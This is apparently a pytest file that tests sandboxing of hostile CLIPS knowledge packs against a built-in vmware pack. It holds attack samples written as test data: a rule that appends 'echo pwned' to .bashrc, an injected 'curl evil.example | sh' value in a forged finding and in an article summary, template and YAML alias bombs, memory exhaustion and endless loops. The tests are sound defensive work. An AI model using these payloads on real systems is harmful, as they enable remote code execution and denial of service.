"""Hostile knowledge packs, one test per attack: a third-party pack can neither escape the worker
nor touch another pack's conclusions; what it breaks it breaks alone, and the diagnosis says so.

The victim is the built-in vmware pack on facts/vmware/examples/locked-vmdk: its
vmware-locked-vmdk finding must come out exactly as without the hostile pack beside it.
"""

from __future__ import annotations

import json
import os
import textwrap
import time
from pathlib import Path

import clips
import pytest
from click.testing import CliRunner
from hostile_kit import PackPlugin

from hakb import KnowledgePack
from hakb.cli import cli
from hakb.diagnosis import diagnose
from hakb.plugin_manager import get_plugin_manager
from bundles import example

LOCKED = example("locked-vmdk")
HEALTHY = example("locked-vmdk-healthy")
_CLEAN: dict[str, dict] = {}

ARTICLE = """---
id: {id}
title: Hostile {id}
severity: warning
summary: "{summary}"
---
## Fix
1. Nothing.
"""


def hostile_pack(folder: Path, rules: str, fault: str = "evil-fault", summary: str = "evil",
                 article: str | None = None) -> KnowledgePack:
    """A pack named evil: one rule file and its article (written as given, when given)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{fault}.clp").write_text(textwrap.dedent(rules))
    (folder / f"{fault}.md").write_text(article or ARTICLE.format(id=fault, summary=summary))
    return KnowledgePack("evil", folder)


def plugin_manager(monkeypatch, *packs):
    monkeypatch.setenv("HAKB_LOAD_PLUGINS", "vmware")
    return get_plugin_manager(extra=(PackPlugin(*packs),))


def locked(case) -> dict:
    [finding] = [f.as_dict() for f in case.findings if f.id == "vmware-locked-vmdk"]
    return finding


def clean_locked_finding(monkeypatch) -> dict:
    if "locked" not in _CLEAN:
        _CLEAN["locked"] = locked(diagnose([str(LOCKED)], pm=plugin_manager(monkeypatch)))
    return _CLEAN["locked"]


def attack(monkeypatch, pack, path=LOCKED, **options):
    """Diagnose ``path`` with the vmware pack and ``pack``; returns the case."""
    return diagnose([str(path)], pm=plugin_manager(monkeypatch, pack), **options)


def errors_of(case, pack="evil"):
    return [e["message"] for e in case.errors if e["source"] == f"pack {pack}"]


def assert_vmware_intact(case, monkeypatch):
    assert locked(case) == clean_locked_finding(monkeypatch)
    assert "vmware" in case.packs


# -- file writes ------------------------------------------------------------------------------------

@pytest.mark.parametrize("call, function", [
    ('(with-open-file (?f "{target}" "a") (printout ?f "echo pwned" crlf))', "with-open-file"),
    ('(bsave-facts "{target}")', "bsave-facts"),
    ('(constructs-to-c "{target}" 1)', "constructs-to-c"),
    ('(save-facts "{target}")', "save-facts"),
    ('(dribble-on "{target}")', "dribble-on"),
])
def test_a_pack_cannot_write_files(tmp_path, monkeypatch, call, function):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    target = home / ".bashrc"
    pack = hostile_pack(tmp_path / "evil", f"""
        (defrule evil-write
          (declare (salience 100))
          (vmfs-lock (disk ?d))
          =>
          {call.format(target=target)})
        """)
    case = attack(monkeypatch, pack)
    assert errors_of(case) == [f"refused: evil-fault.clp:6: calls forbidden function '{function}'"]
    assert list(home.iterdir()) == []
    assert not list(tmp_path.glob("**/*.c"))
    assert_vmware_intact(case, monkeypatch)


# -- pack code never runs in hakb's process ----------------------------------------------------------

def test_initialisers_handlers_and_instances_of_a_refused_pack_never_run_in_hakbs_process(tmp_path, monkeypatch):
    """No CLIPS environment, YAML parse or template is ever made in hakb's process: the pack's
    defglobal initialiser, class, message handler and make-instance only ever meet the worker's
    hardened environment, which refuses them."""
    made = {"clips": [], "yaml": [], "jinja": []}
    original_environment, original_yaml = clips.Environment.__init__, __import__("yaml").load

    def spy_environment(self, *args, **kwargs):
        made["clips"].append(os.getpid())
        original_environment(self, *args, **kwargs)

    def spy_yaml(*args, **kwargs):
        made["yaml"].append(os.getpid())
        return original_yaml(*args, **kwargs)

    import jinja2.environment
    original_compile = jinja2.environment.Environment.from_string

    def spy_compile(self, *args, **kwargs):
        made["jinja"].append(os.getpid())
        return original_compile(self, *args, **kwargs)

    monkeypatch.setattr(clips.Environment, "__init__", spy_environment)
    monkeypatch.setattr("yaml.load", spy_yaml)
    monkeypatch.setattr(jinja2.environment.Environment, "from_string", spy_compile)
    pack = hostile_pack(tmp_path / "evil", """
        (defclass EVIL (is-a USER) (slot x))
        (defmessage-handler EVIL init after () (printout t "handler ran" crlf))
        (defglobal ?*evil* = (make-instance evil of EVIL))
        """)
    case = attack(monkeypatch, pack)
    [refusal] = errors_of(case)
    assert refusal.startswith("refused: evil-fault.clp:2: uses 'defclass', which packs may not use")
    assert made == {"clips": [], "yaml": [], "jinja": []}  # nothing of it in this process
    assert_vmware_intact(case, monkeypatch)
    runner = CliRunner()
    assert "vmware-locked-vmdk" in runner.invoke(cli, ["kb", "list"]).stdout
    assert "‹" in runner.invoke(cli, ["kb", "show", "vmware-locked-vmdk"]).stdout  # placeholders filled
    sarif = runner.invoke(cli, ["diagnose", "--no-save", "--format", "sarif", str(LOCKED)])
    assert "Restart the management agent" in sarif.stdout  # the article's help text, written
    assert made == {"clips": [], "yaml": [], "jinja": []}


LOOPING_INITIALISER = """
    (defglobal ?*evil* = (progn (while TRUE do (bind ?x 1)) 1))
    (defrule evil-never (vmfs-lock) =>)
    """


def test_an_endless_initialiser_does_not_hang_diagnose(tmp_path, monkeypatch):
    import hakb.diagnosis
    pm = plugin_manager(monkeypatch, hostile_pack(tmp_path / "evil", LOOPING_INITIALISER))
    monkeypatch.setattr(hakb.diagnosis, "get_plugin_manager", lambda: pm)
    started = time.monotonic()
    result = CliRunner().invoke(cli, ["diagnose", "--no-save", "--rule-timeout", "1", "--format", "json",
                                      str(LOCKED)])
    assert time.monotonic() - started < 15
    report = json.loads(result.stdout)
    assert result.exit_code == 1  # the vmware finding is an error
    [message] = [e["message"] for e in report["errors"] if e["source"] == "pack evil"]
    assert message.startswith("rules did not finish within 1 s while loading the rules")
    assert [f["id"] for f in report["findings"]].count("vmware-locked-vmdk") == 1


def test_an_endless_initialiser_does_not_hang_kb_list(tmp_path, monkeypatch):
    import hakb.isolation
    import hakb.plugin_manager
    pm = plugin_manager(monkeypatch, hostile_pack(tmp_path / "evil", LOOPING_INITIALISER))
    monkeypatch.setattr(hakb.plugin_manager, "get_plugin_manager", lambda: pm)
    monkeypatch.setattr(hakb.isolation, "DEFAULT_TIMEOUT", 1.0)
    started = time.monotonic()
    result = CliRunner().invoke(cli, ["kb", "list"])
    assert time.monotonic() - started < 15
    assert result.exit_code == 0 and "vmware-locked-vmdk" in result.stdout
    assert "evil-fault" not in result.stdout
    assert "pack evil refused: rules did not finish within 1 s while loading the rules" in result.stderr


def test_a_recursing_initialiser_does_not_crash_hakb(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (deffunction evil-down (?x) (evil-down (+ ?x 1)))
        (defglobal ?*evil* = (evil-down 1))
        """)
    case = attack(monkeypatch, pack, rule_timeout=20)
    [message] = errors_of(case)
    assert "crashed (SIGSEGV) while loading the rules" in message
    assert_vmware_intact(case, monkeypatch)


# -- one pack against another --------------------------------------------------------------------------

def test_halt_at_high_salience_cannot_stop_other_packs(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-halt (declare (salience 10000)) (vmfs-lock) => (halt))
        """)
    case = attack(monkeypatch, pack)
    assert errors_of(case) == ["refused: evil-fault.clp:2: calls forbidden function 'halt'"]
    assert_vmware_intact(case, monkeypatch)


def test_retracting_everything_at_low_salience_touches_only_the_packs_own_facts(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-wipe (declare (salience -10000)) (vmfs-lock) => (retract *))
        """)
    case = attack(monkeypatch, pack)
    assert case.errors == []  # allowed: it wiped its own copy of the facts
    assert_vmware_intact(case, monkeypatch)


def test_redefining_another_packs_rule_changes_nothing_of_it(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule MAIN::vmware-locked-vmdk-holder-known (vmfs-lock) =>)
        (defrule MAIN::vmware-locked-vmdk-task-evidence (vmfs-lock) =>)
        """)
    case = attack(monkeypatch, pack)
    assert case.errors == []  # its own environment holds only its own rules
    assert_vmware_intact(case, monkeypatch)


def test_overloading_a_comparison_is_refused(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defmethod > ((?a NUMBER) (?b NUMBER)) FALSE)
        """)
    case = attack(monkeypatch, pack)
    assert errors_of(case) == ["refused: evil-fault.clp:2: uses 'defmethod', which packs may not use"]
    assert_vmware_intact(case, monkeypatch)


def test_a_forged_finding_with_a_builtin_id_is_refused(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-forge
          ?l <- (vmfs-lock (disk ?d))
          =>
          (assert (hakb-finding (id "vmware-locked-vmdk") (key ?d) (severity "critical") (evidence ?l)
                                (vars holder_host "esx03; curl evil.example | sh"))))
        """)
    case = attack(monkeypatch, pack)
    assert errors_of(case) == ["asserted a finding with id 'vmware-locked-vmdk', which is not an article "
                               "of this pack; refused"]
    assert "evil" not in case.packs
    assert_vmware_intact(case, monkeypatch)
    assert not any("curl" in json.dumps(f.as_dict()) for f in case.findings)


def test_an_article_claiming_a_builtin_id_is_refused(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-claim ?l <- (vmfs-lock (disk ?d)) =>
          (assert (hakb-finding (id "vmware-locked-vmdk") (key ?d) (evidence ?l))))
        """, fault="vmware-locked-vmdk", summary="run curl evil.example | sh")
    case = attack(monkeypatch, pack)
    assert errors_of(case) == ["refused: vmware-locked-vmdk.md: article id 'vmware-locked-vmdk' is already "
                               "used by pack vmware"]
    assert_vmware_intact(case, monkeypatch)


def test_fake_error_text_on_stderr_drops_no_pack(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-noise
          (vmfs-lock)
          =>
          (printout stderr "[PRNTUTIL7] Attempt to divide by zero in 'div' function." crlf
                           "[PRCCODE4] Execution halted during the actions of defrule "
                           "'vmware-locked-vmdk-holder-known'." crlf))
        """)
    case = attack(monkeypatch, pack)
    assert case.errors == [] and sorted(case.packs) == ["evil", "vmware"]
    assert_vmware_intact(case, monkeypatch)


# -- templates, front matter, memory -------------------------------------------------------------------

FIRING_RULE = """
    (defrule evil-fires ?l <- (vmfs-lock (disk ?d)) =>
      (assert (hakb-finding (id "evil-fault") (key ?d) (evidence ?l))))
    """


@pytest.mark.parametrize("summary, why", [
    ("{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
     "it took longer than 1 s"),
    ("{{ 'x' * 3000000000 }}", "the text would be too long"),
    ("{{ 'x' | center(3000000000) }}", "it needed more memory than allowed"),
])
def test_a_template_bomb_is_contained_and_leaves_a_plain_sentence(tmp_path, monkeypatch, summary, why):
    pack = hostile_pack(tmp_path / "evil", FIRING_RULE, summary=summary)
    started = time.monotonic()
    case = attack(monkeypatch, pack)
    assert time.monotonic() - started < 20
    [finding] = [f for f in case.findings if f.id == "evil-fault"]
    assert finding.summary == ("Hostile evil-fault. (This finding's summary could not be filled in: "
                               f"{why}.)")
    assert "range" not in finding.summary and "3000000000" not in finding.summary
    assert errors_of(case) == [f"evil-fault: summary template error: {why}"]
    assert_vmware_intact(case, monkeypatch)


def test_a_yaml_alias_bomb_in_front_matter_is_contained(tmp_path, monkeypatch):
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi"):
        levels.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    bomb = "\n".join(levels)
    assert len(bomb) <= 527
    article = f"---\nid: evil-fault\ntitle: Bomb\nseverity: info\n{bomb}\nproducts: *i\n---\n"
    pack = hostile_pack(tmp_path / "evil", FIRING_RULE, article=article)
    case = attack(monkeypatch, pack)
    assert errors_of(case) == ["refused: evil-fault.md: front matter uses more than 16 YAML aliases"]
    assert_vmware_intact(case, monkeypatch)


def test_a_pack_that_eats_memory_fails_alone(tmp_path, monkeypatch):
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-grow
          (vmfs-lock)
          =>
          (bind ?s "xxxxxxxxxxxxxxxx")
          (loop-for-count 40 (bind ?s (str-cat ?s ?s))))
        """)
    case = attack(monkeypatch, pack, rule_timeout=30, rule_memory=256)
    [message] = errors_of(case)
    assert "while running the rules" in message and "--rule-memory" in message
    assert_vmware_intact(case, monkeypatch)


# -- incomplete is not healthy -------------------------------------------------------------------------

def test_a_timed_out_pack_gives_exit_3_and_says_incomplete(tmp_path, monkeypatch):
    import hakb.diagnosis
    pack = hostile_pack(tmp_path / "evil", """
        (defrule evil-loop (host-nic) => (while TRUE do (bind ?x 1)))
        """)
    pm = plugin_manager(monkeypatch, pack)
    monkeypatch.setattr(hakb.diagnosis, "get_plugin_manager", lambda: pm)
    runner = CliRunner()
    text = runner.invoke(cli, ["diagnose", "--no-save", "--rule-timeout", "1", str(HEALTHY)])
    assert text.exit_code == 3, text.output
    assert "No known fault found. The diagnosis is incomplete" in text.stdout
    assert "- pack evil: rules did not finish within 1 s while running the rules" in text.stdout
    as_json = runner.invoke(cli, ["diagnose", "--no-save", "--rule-timeout", "1", "--format", "json",
                                  str(HEALTHY)])
    report = json.loads(as_json.stdout)
    assert as_json.exit_code == 3 and report["complete"] is False
    assert report["incomplete_reasons"][0].startswith("pack evil: rules did not finish within 1 s")
    assert report["findings"] == [] and report["packs"] == ["vmware"]
